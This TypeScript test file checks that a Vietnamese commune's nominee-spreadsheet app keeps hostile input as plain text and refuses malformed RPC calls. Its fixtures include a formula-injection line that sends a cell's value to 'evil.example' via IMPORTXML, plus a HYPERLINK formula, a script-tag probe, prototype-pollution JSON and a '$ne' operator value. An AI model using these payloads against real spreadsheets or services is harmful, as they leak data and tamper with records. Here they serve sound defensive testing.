import type { Person } from '../../host/index.ts';
import { farmer, GIAC, laidOffice, type Office, type Reply } from './office.ts';
import { rowOf, rowsOf, seeAll, tableOf } from './tabs.ts';

const TAB = 'Xã Trà Giác';
let office: Office;
let officer: Person;
let id: string;

beforeAll(() => {
  office = laidOffice([GIAC]);
  officer = office.editor('giac@example.vn');
  id = office.ask(officer, 'nominee.save', farmer()).data.id;
});

const listed = (): Record<string, unknown> =>
  office.ask(officer, 'unit.home').data.nominees.find((each: { id: string }) => each.id === id).cells;
const shown = (): Readonly<Record<string, string>> => rowOf(officer, TAB, 'nominees', 0);

const TEXTS = [
  '=IMPORTXML("http://evil.example/?"&A1;"//a")',
  '=1+1',
  '+84 905 000 000',
  '+A1',
  '-2+3',
  '@SUM(1;2)',
  "'trích dẫn'",
  "''hai nháy",
  '<script>alert(1)</script>',
  '1/2',
  '2024-01-05',
  '01/02/2024',
  '007',
  '1e5',
  '12,5',
  '95%',
  'TRUE',
  'true',
  '#REF!',
  '-',
  '$1 \\1 %s',
  'a|b|c',
  'Tên có\nxuống dòng',
  'Đ và Ð',
  '😀 hoa sen 🪷',
];

const PLAIN = ['name', 'address', 'achievement', 'note', 'minutesNumber'] as const;
const GENERAL = ['c6', 'c7', 'c8', 'c9', 'c10'] as const;

/** Five by five: once in columns formatted as text, once in columns that take any value. */
const FIVES = Array.from({ length: TEXTS.length / PLAIN.length }, (_, index) =>
  TEXTS.slice(5 * index, 5 * index + 5),
);
test.each(FIVES)('%j, %j, %j, %j and %j are kept as text and come back the same', (...texts) => {
  const wanted = Object.fromEntries([...PLAIN, ...GENERAL].map((key, index) => [key, texts[index % 5]]));
  expect(office.ask(officer, 'nominee.save', { id, fields: wanted })).toMatchObject({ ok: true });
  expect(shown()).toMatchObject(wanted);
  expect(listed()).toMatchObject(wanted);
});

test.each(['\t=1+1', '\r\n=1+1', '  =1+1'])('%j computes nothing', (text) => {
  expect(office.ask(officer, 'nominee.save', { id, fields: { name: text, c9: text } })).toMatchObject({
    ok: true,
  });
  const seen = shown();
  for (const key of ['name', 'c9'] as const) expect(seen[key]).toContain('=1+1');
});

test('half a surrogate pair is replaced, and the rest of the text stays', () => {
  expect(office.ask(officer, 'nominee.save', { id, fields: { name: 'A\uD83DB' } })).toMatchObject({
    ok: true,
  });
  expect(rowOf(officer, TAB, 'nominees', 0).name).toMatch(/^A.B$/u);
});

test('50,000 characters are refused by name, and nothing is written', () => {
  const before = office.host.snapshot();
  const reply = office.ask(officer, 'nominee.save', { id, fields: { achievement: 'ă'.repeat(50_000) } });
  expect(reply).toMatchObject({ ok: false, code: 'badInput' });
  expect(reply.message).toContain('Thành tích');
  expect(office.host.snapshot()).toEqual(before);
});

test('a formula typed by hand into a text cell is read by the commands as what it shows, and harms nobody', () => {
  const cell = tableOf(officer, TAB, 'nominees').cell('c10', 0);
  officer.paste(TAB, cell, [['=1/0']]);
  expect(office.ask(officer, 'unit.home')).toMatchObject({ ok: true });
  expect(office.ask(office.owner, 'register.refresh')).toMatchObject({ ok: true });
  officer.paste(TAB, cell, [['']]);
});

test('hostile names reach Hồ sơ and the summary as text', () => {
  office.ask(officer, 'nominee.save', { id, ...farmer({ name: '=HYPERLINK("http://evil.example")' }) });
  office.ask(officer, 'nominee.submit', { id });
  expect(office.ask(office.owner, 'register.refresh')).toMatchObject({ ok: true });
  expect(office.ask(office.owner, 'summary.compile')).toMatchObject({ ok: true });
  const [row] = rowsOf(office.owner, 'Hồ sơ', 'register');
  expect(row?.cells.name).toBe('=HYPERLINK("http://evil.example")');
  expect(seeAll(office.owner, 'Báo cáo lãnh đạo 2024').flat().join('\n')).toContain(
    '=HYPERLINK("http://evil.example")',
  );
});

describe('the single door', () => {
  let before: unknown;
  beforeAll(() => {
    before = office.host.snapshot();
  });

  const NAMES: unknown[] = [
    '',
    'setUp',
    'constructor',
    '__proto__',
    'toString',
    'nominee.delete',
    'hasOwnProperty',
    1,
    null,
    true,
    ['setup'],
    {},
    { toString: 1, valueOf: 1 },
  ];
  test.each(NAMES)('answers the name %j with a refusal', (name) => {
    const reply = officer.call('rpc', name, {}) as Reply;
    expect(reply).toMatchObject({ ok: false, code: 'unknownCommand' });
  });

  const SHAPES: unknown[] = [
    'text',
    7,
    true,
    [],
    [1],
    { fields: 1 },
    { fields: [] },
    { fields: null },
    { fields: { name: {} } },
    { fields: { year: '2024' } },
    { fields: { kind: 'Công ty' } },
    { fields: { id: 'X02-2024-001' } },
    { fields: { status: 'Đã khen' } },
    { fields: { verdict: 'Đủ điều kiện' } },
    { fields: { submit: 'Nộp' } },
    { fields: { active: 1 } },
    { unit: 7, fields: {} },
    { unit: 'X01', fields: {}, force: true },
    { id: { $ne: '' }, fields: {} },
    { fields: { minutesDate: '2024-02-30' } },
    { fields: { minutesDate: '05/01/2024' } },
    JSON.parse('{"__proto__":{"unit":"X02"},"fields":{"name":"Proto"}}'),
    JSON.parse('{"fields":{"constructor":{"prototype":1},"name":"Proto"}}'),
    { fields: { c11: 1 } },
    { fields: { name: 'x'.repeat(3000) } },
    { unit: '=1', fields: {} },
    {},
  ];
  test.each(SHAPES)('nominee.save answers %j with a refusal', (input) => {
    const reply = officer.call('rpc', 'nominee.save', input) as Reply;
    expect(reply.ok).toBe(false);
    expect(['badInput', 'otherUnit']).toContain(reply.code);
    expect(reply.message).not.toBe('');
  });

  test.each([
    'nominee.submit',
    'unit.home',
    'unit.open',
    'summary.compile',
    'register.refresh',
    'reminders.send',
    'setup',
    'about',
  ])('%s answers fields nobody declared with a refusal', (command) => {
    expect(office.owner.call('rpc', command, { id: 'x', extra: { deep: true } })).toMatchObject({
      ok: false,
      code: 'badInput',
    });
  });

  test('after all these refusals the whole file is as it was', () => {
    expect(office.host.snapshot()).toEqual(before);
  });

  test("a prototype key inside the form is nobody's: it is dropped, and what is declared is saved", () => {
    const input: unknown = JSON.parse('{"fields":{"__proto__":{"name":"x","unit":"X02"},"name":"Tên thật"}}');
    const reply = officer.call('rpc', 'nominee.save', input) as Reply;
    if (reply.ok)
      expect(rowsOf(officer, TAB, 'nominees', ['name']).at(-1)?.cells).toMatchObject({
        name: 'Tên thật',
        address: '',
      });
    else expect(reply.code).toBe('badInput');
  });

  test('no input at all is as good as an empty one', () => {
    expect(office.owner.call('rpc', 'about')).toMatchObject({ ok: true });
    expect(office.owner.call('rpc', 'about', null)).toMatchObject({ ok: true });
    expect(office.owner.call('rpc')).toMatchObject({ ok: false, code: 'unknownCommand' });
  });
});
